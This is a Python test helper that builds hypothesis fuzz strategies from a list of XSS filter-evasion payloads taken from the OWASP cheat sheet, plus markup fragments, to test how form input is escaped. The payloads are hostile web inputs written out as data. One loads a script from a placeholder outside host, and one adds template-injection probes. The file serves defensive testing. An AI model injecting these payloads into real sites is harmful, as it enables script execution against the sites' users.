"""Hostile text for every field a person can fill: the classic cross-site
scripting filter-evasion vectors (after the OWASP cheat sheet) and a
hypothesis strategy that mixes their pieces with arbitrary text."""

from hypothesis import strategies as st

XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//xss.example/xss.js></SCRIPT>",
    "<ScRiPt>alert(String.fromCharCode(88,83,83))</sCrIpT>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<!--<script>alert(1)//-->",
    "--><script>alert(1)</script><!--",
    "<img src=x onerror=alert(1)>",
    '<IMG SRC="javascript:alert(1);">',
    "<IMG SRC=JaVaScRiPt:alert(1)>",
    "<IMG SRC=`javascript:alert(1)`>",
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)>",
    '<IMG SRC="jav\tascript:alert(1);">',
    '<IMG SRC="jav&#x0A;ascript:alert(1);">',
    '<IMG SRC=" &#14;  javascript:alert(1);">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)//",
    "<body onload=alert(1)>",
    '<a href="javascript:alert(1)">Klick</a>',
    "<a href='jAvAsCrIpT&colon;alert(1)'>Klick</a>",
    '<a href="vbscript:msgbox(1)">Klick</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">Klick</a>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<div style="width: expression(alert(1));">',
    "<style>@import 'javascript:alert(1)';</style>",
    '<math><a xlink:href="javascript:alert(1)">Klick</a></math>',
    '<form action="javascript:alert(1)"><button>Los</button></form>',
    '<button formaction="javascript:alert(1)">Los</button>',
    "<input onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    "` onmouseover=`alert(1)",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "java\x00script:alert(1)",
    "javascript:alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u2028\u2029<!--</script>{{ 7*7 }}${7*7}",
]

_FRAGMENTS = [
    "<",
    ">",
    "</",
    "/>",
    '"',
    "'",
    "`",
    "=",
    "&",
    "&#",
    ";",
    "\t",
    "\n",
    "\x0c",
    "\x00",
    "<!--",
    "-->",
    "<![CDATA[",
    "]]>",
    "script",
    "</script>",
    "<script>",
    "<img src=x",
    " onerror=alert(1)",
    " onload=alert(1)",
    "javascript:",
    "JaVaScRiPt:",
    "data:text/html,",
    "vbscript:",
    "<svg",
    "<iframe srcdoc=",
    "<a href=",
    "<style>",
    "&colon;",
    "&#x6A;",
    "\\u003c",
    "\u2028",
    "ü",
    "ẞ",
]

xss_text = st.lists(
    st.sampled_from(_FRAGMENTS) | st.sampled_from(XSS_PAYLOADS) | st.text(max_size=8),
    min_size=1,
    max_size=12,
).map("".join)


def storable(text, max_length=None):
    """`text` as a form would let it into the database.

    Forms refuse NUL characters and PostgreSQL cannot store them, so only
    readers' requests carry them; they are tested there.
    """
    text = text.replace("\x00", "")
    return text[:max_length] if max_length else text
